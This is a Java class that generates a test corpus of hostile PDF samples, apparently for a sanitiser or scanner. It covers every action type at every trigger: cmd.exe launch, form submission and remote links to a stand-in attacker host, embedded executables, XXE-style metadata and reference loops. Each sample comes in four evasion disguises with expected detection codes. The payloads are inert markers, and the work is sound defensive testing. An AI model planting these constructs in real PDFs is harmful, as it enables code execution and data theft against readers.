package jp.kiyome.testcorpus.pdf;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import jp.kiyome.testcorpus.sample.Sample;
import jp.kiyome.testcorpus.sample.Vector;

/** Every action at every trigger, and what else a PDF file can carry, each written plainly and in four disguises. */
public final class PdfVectors {

    private static final String EVIL = "http://evil.example.invalid/";

    /** Action, and the finding that names it. */
    private static final Map<String, String> ACTIONS = new TreeMap<>(Map.ofEntries(
            Map.entry("JavaScript", "/JS(app.alert)|pdf.javascript"),
            Map.entry("Launch", "/F(cmd.exe)/Win<</F(cmd.exe)/P(evilmark)>>|pdf.launch"),
            Map.entry("GoToR", "/F(\\\\evil.example.invalid\\share)/D[0/Fit]|pdf.remote-go-to"),
            Map.entry("GoToE", "/F(evil.pdf)/T<</R/C/N(evilmark)>>/D[0/Fit]|pdf.remote-go-to"),
            Map.entry("SubmitForm", "/F(" + EVIL + ")/Flags 256|pdf.form-data"),
            Map.entry("ImportData", "/F(evil.fdf)|pdf.form-data"),
            Map.entry("ResetForm", "/Flags 0|pdf.action"),
            Map.entry("Named", "/N/Print|pdf.action"),
            Map.entry("Hide", "/T(evilmark)|pdf.action"),
            Map.entry("SetOCGState", "/State[]|pdf.action"),
            Map.entry("Thread", "/F(evil.pdf)/D 0|pdf.remote-go-to"),
            Map.entry("Trans", "/Trans<</S/R>>|pdf.action"),
            Map.entry("Rendition", "/OP 0/JS(evilmark)|pdf.media"),
            Map.entry("Movie", "/T(evilmark)|pdf.media"),
            Map.entry("Sound", "/Sound 9 0 R|pdf.media"),
            Map.entry("RichMediaExecute", "/CMD<</C(evilmark)>>|pdf.media"),
            Map.entry("GoTo3DView", "/V/N|pdf.media"),
            Map.entry("URI", "/URI(file:///c:/evilmark)|pdf.link")));

    private static final List<String> DISGUISES = List.of("escaped", "object-stream", "encrypted", "update");

    private PdfVectors() {}

    /** Whether it is another vector, written otherwise. */
    public static boolean isDisguise(Vector vector) {
        return DISGUISES.stream().anyMatch(how -> vector.hostile().name().endsWith("-" + how));
    }

    public static List<Vector> all() {
        List<Vector> all = new ArrayList<>();
        ACTIONS.forEach((kind, rest) -> {
            String[] parts = rest.split("\\|", -1);
            String action = "<</S/" + kind + parts[0] + ">>";
            triggers(action).forEach((trigger, change) -> {
                // A link is one on a click alone: anything else that would follow it is an action.
                boolean clicked = trigger.endsWith("-A");
                String code = trigger.equals("names") ? "pdf.javascript" : parts[1];
                code = kind.equals("URI") && !clicked && !trigger.equals("names") ? "pdf.action" : code;
                all.addAll(disguised("pdf-" + kind + "-" + trigger, base(), change, code));
            });
        });
        structures()
                .forEach((name, vector) -> all.addAll(disguised("pdf-" + name, base(), vector.change, vector.code)));
        Map<String, String[]> findings = findings();
        Stream.of(
                        PdfSignatures.all(),
                        PdfPosters.all(),
                        PdfFields.all(),
                        PdfShadows.all(),
                        PdfBombs.all(),
                        PdfLoops.all(),
                        PdfDamage.all(),
                        PdfFonts.all())
                .flatMap(List::stream)
                .map(PdfCase::vector)
                .map(v -> v.finds(findings.getOrDefault(v.hostile().name(), new String[0])))
                .forEach(all::add);
        return List.copyOf(all);
    }

    /** Codes by the name of the hostile sample, of those that the code here does not tell. */
    public static Map<String, String[]> findings() {
        Map<String, String[]> findings = new TreeMap<>();
        try (InputStream in = PdfVectors.class.getResourceAsStream("findings.tsv")) {
            if (in == null) {
                throw new IllegalStateException("findings.tsv is missing");
            }
            new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.startsWith("#"))
                    .map(line -> line.split("\t", 2))
                    .forEach(f -> findings.put(f[0], f[1].isEmpty() ? new String[0] : f[1].split(" ", -1)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return findings;
    }

    private record Change(UnaryOperator<PdfBuilder> change, String code) {}

    /** A page with a link, an outline item and a text field beside its text. */
    private static PdfBuilder base() {
        return PdfBuilder.onePage()
                .add(1, "/Outlines 6 0 R/AcroForm<</Fields[8 0 R]>>")
                .add(3, "/Annots[7 0 R 8 0 R]")
                .object(6, "<</Type/Outlines/First 9 0 R/Last 9 0 R/Count 1>>")
                .object(7, "<</Type/Annot/Subtype/Link/Rect[10 10 90 30]>>")
                .object(8, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(value)/Rect[100 10 200 30]>>")
                .object(9, "<</Title(Chapter)/Parent 6 0 R/Dest[3 0 R/Fit]>>");
    }

    static PdfBuilder titled(String information) {
        return PdfBuilder.onePage().trailer("/Info 6 0 R").object(6, information);
    }

    /** A cell that names its header, as readers for the blind need it (14.8.5.7). */
    private static PdfBuilder tableHeaders() {
        return PdfBuilder.onePage()
                .add(1, "/StructTreeRoot 6 0 R/MarkInfo<</Marked true>>/Lang(ja)")
                .object(6, "<</Type/StructTreeRoot/K 7 0 R/IDTree<</Names[(head)8 0 R]>>>>")
                .object(7, "<</Type/StructElem/S/TR/P 6 0 R/K[8 0 R 9 0 R]>>")
                .object(8, "<</Type/StructElem/S/TH/P 7 0 R/ID(head)/A<</O/Table/Scope/Column>>>>")
                .object(9, "<</Type/StructElem/S/TD/P 7 0 R/A<</O/Table/Headers[(head)]>>>>");
    }

    private static Map<String, UnaryOperator<PdfBuilder>> triggers(String action) {
        Map<String, UnaryOperator<PdfBuilder>> triggers = new TreeMap<>();
        triggers.put("OpenAction", file -> file.add(1, "/OpenAction " + action));
        for (String event : List.of("WC", "WS", "DS", "WP", "DP")) {
            triggers.put("catalog-" + event, file -> file.add(1, "/AA<</" + event + " " + action + ">>"));
        }
        for (String event : List.of("O", "C")) {
            triggers.put("page-" + event, file -> file.add(3, "/AA<</" + event + " " + action + ">>"));
        }
        triggers.put("link-A", file -> file.add(7, "/A " + action));
        for (String event : List.of("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI")) {
            triggers.put("annotation-" + event, file -> file.add(7, "/AA<</" + event + " " + action + ">>"));
        }
        for (String event : List.of("K", "F", "V", "C")) {
            triggers.put("field-" + event, file -> file.add(8, "/AA<</" + event + " " + action + ">>"));
        }
        triggers.put("outline-A", file -> file.add(9, "/A " + action));
        triggers.put("names", file -> file.add(1, "/Names<</JavaScript<</Names[(evilmark)" + action + "]>>>>"));
        return triggers;
    }

    private static Map<String, Change> structures() {
        Map<String, Change> all = new TreeMap<>();
        all.put(
                "next",
                new Change(
                        f -> f.add(7, "/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(evilmark)>>>>"), "pdf.action"));
        all.put(
                "embedded",
                new Change(
                        f -> f
                                .add(1, "/Names<</EmbeddedFiles<</Names[(evilmark)20 0 R]>>>>")
                                .object(20, "<</Type/Filespec/F(evil.exe)/EF<</F 21 0 R>>>>")
                                .stream(21, "/Type/EmbeddedFile", "evilmark"),
                        "pdf.embedded-file"));
        all.put(
                "associated",
                new Change(
                        f -> f.add(1, "/AF[20 0 R]").object(20, "<</Type/Filespec/F(evilmark)>>"),
                        "pdf.embedded-file"));
        all.put(
                "attachment",
                new Change(
                        f -> f.add(3, "/Dur 1")
                                .object(7, "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(evilmark)>>>>"),
                        "pdf.embedded-file"));
        for (String media : List.of("Screen", "Movie", "Sound", "RichMedia", "3D", "Projection")) {
            all.put(
                    "annotation-" + media,
                    new Change(
                            f -> f.object(7, "<</Type/Annot/Subtype/" + media + "/Rect[0 0 9 9]/T(evilmark)>>"),
                            "pdf.media"));
        }
        all.put(
                "xfa",
                new Change(
                        f -> f
                                .object(
                                        1,
                                        "<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/AcroForm<</Fields[8 0 R]/XFA 20 0 R>>>>")
                                .stream(20, "", "<evilmark/>"),
                        "pdf.xfa"));
        all.put(
                "external-stream",
                new Change(
                        f -> f.stream(10, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(\\\\evil.example.invalid\\x)", "")
                                .object(
                                        3,
                                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[7 0 R 8 0 R]"
                                                + "/Resources<</Font<</F1 5 0 R>>/XObject<</X 10 0 R>>>>>>"),
                        "pdf.external-stream"));
        all.put(
                "postscript",
                new Change(
                        f -> f.stream(10, "/Type/XObject/Subtype/PS", "(evilmark) print")
                                .object(
                                        3,
                                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[7 0 R 8 0 R]"
                                                + "/Resources<</Font<</F1 5 0 R>>/XObject<</X 10 0 R>>>>>>"),
                        "pdf.postscript"));
        all.put(
                "metadata",
                new Change(
                        f -> f.add(1, "/Metadata 20 0 R").stream(
                                20, "/Type/Metadata/Subtype/XML", "<!DOCTYPE x SYSTEM 'file:///evilmark'>"),
                        "pdf.metadata"));
        all.put(
                "private-data",
                new Change(f -> f.add(3, "/PieceInfo<</Evil<</Private(evilmark)>>>>"), "pdf.private-data"));
        all.put(
                "type1-matrix",
                new Change(
                        f -> f
                                .object(5, "<</Type/Font/Subtype/Type1/BaseFont/AAAAAA+Evil/FontDescriptor 20 0 R>>")
                                .object(20, "<</Type/FontDescriptor/FontName/AAAAAA+Evil/FontFile 21 0 R>>")
                                .stream(21, "", "%!FontType1\n/FontMatrix [1 2 3 4 5 (evilmark)] def eexec"),
                        "pdf.font-program"));
        all.put("loop-outline", new Change(f -> f.add(9, "/First 9 0 R"), "pdf.loop"));
        all.put("loop-pages", new Change(f -> f.object(2, "<</Type/Pages/Count 2/Kids[3 0 R 2 0 R]>>"), "pdf.loop"));
        return all;
    }

    private static List<Vector> disguised(String name, PdfBuilder base, UnaryOperator<PdfBuilder> change, String code) {
        PdfBuilder hostile = change.apply(base.copy());
        TreeSet<String> codes = new TreeSet<>(List.of(code));
        if (name.equals("pdf-attachment")) {
            codes.add("pdf.unlisted-entry");
        }
        List<Vector> all = new ArrayList<>();
        all.add(vector(name, "plain", hostile, hostile::plain, base, codes));
        all.add(vector(name, "escaped", hostile, hostile::withEscapedNames, base, codes));
        all.add(vector(name, "object-stream", hostile, hostile::inObjectStreams, base, codes));
        all.add(vector(name, "encrypted", hostile, hostile::encrypted, base, with(codes, "pdf.permissions")));
        all.add(vector(
                name, "update", hostile, () -> hostile.asUpdateOf(base), base, with(codes, "pdf.earlier-revision")));
        return all;
    }

    private static Set<String> with(Set<String> codes, String more) {
        TreeSet<String> all = new TreeSet<>(codes);
        all.add(more);
        return all;
    }

    private static Vector vector(
            String name,
            String disguise,
            PdfBuilder hostile,
            Supplier<byte[]> file,
            PdfBuilder base,
            Set<String> codes) {
        Vector vector = Vector.of(name + "-" + disguise, "pdf", file, base::plain);
        return (disguise.equals("plain") && !name.contains("-annotation-") ? vector.keeps("Kiyome") : vector)
                .finds(codes.toArray(String[]::new))
                .loses(Stream.of("evilmark", "cmd.exe", "evil.example.invalid")
                        .filter(hostile::holds)
                        .toArray(String[]::new));
    }

    public static List<Sample> benign() {
        return List.of(
                Sample.of("pdf-one-page", "pdf", PdfBuilder.onePage()::plain),
                Sample.of("pdf-object-streams", "pdf", PdfBuilder.onePage()::inObjectStreams),
                Sample.of("pdf-escaped-names", "pdf", PdfBuilder.onePage()::withEscapedNames),
                Sample.of("pdf-link-outline-field", "pdf", base()::plain),
                Sample.of("pdf-field-question-marks", "pdf", PdfFields.questionMarks()::plain),
                Sample.of("pdf-title", "pdf", titled("<</Title(Kiyome)>>")::plain),
                Sample.of("pdf-table-headers", "pdf", tableHeaders()::plain));
    }
}
